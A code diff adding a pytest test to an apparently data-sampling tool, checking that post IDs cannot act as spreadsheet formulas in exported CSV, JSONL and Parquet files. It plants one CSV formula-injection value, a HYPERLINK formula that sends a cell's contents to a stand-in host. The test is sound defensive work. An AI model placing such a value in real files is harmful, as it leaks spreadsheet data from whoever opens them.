@@ -1,3 +1,5 @@
+from functools import partial
+
 import pandas as pd
 import pytest
 
@@ -39,6 +41,27 @@ def test_the_same_seed_gives_the_same_sample_from_every_format(scores, promise, 
     draw_sample(copy, other, promise, TARGET, 200, seed=7)
     assert other.read_bytes() == as_parquet.read_bytes()
     assert locate_manifest(other).read_bytes() == locate_manifest(as_parquet).read_bytes()
+
+
+HOSTILE_ID = '=HYPERLINK("http://example.org/"&A2)'
+
+
+@pytest.mark.parametrize("ending", ["csv", "jsonl", "parquet"])
+def test_ids_are_no_formulas_in_the_file_people_open_and_decisions_on_either_spelling_count(
+    scores, promise, tmp_path, ending
+):
+    posts, sample = pd.read_parquet(scores), tmp_path / f"sample.{ending}"
+    posts.loc[posts["risk_suicidewatch"].idxmax(), "post_id"] = HOSTILE_ID
+    posts.to_parquet(scores)
+    draw_sample(scores, sample, promise, TARGET, 300, seed=7)
+    shown = f"'{HOSTILE_ID}" if ending == "csv" else HOSTILE_ID
+    read = {"csv": pd.read_csv, "jsonl": partial(pd.read_json, lines=True), "parquet": pd.read_parquet}[ending](sample)
+    assert shown in set(read["post_id"])
+    decisions = read.assign(decision="escalate")
+    for decided in (decisions, decisions.replace(shown, HOSTILE_ID)):
+        decided[["post_id", "decision"]].to_csv(tmp_path / "decisions.csv", index=False)
+        done = estimate_recall(sample, tmp_path / "decisions.csv", tmp_path / "decisions.csv", missing="refuse")
+        assert (done.n_flagged_positive, done.n_outside) == (read["stratum"].eq("flagged").sum(), 0)
 
 
 @pytest.mark.parametrize("existing", ["sample.csv", "sample.csv.manifest.json"])
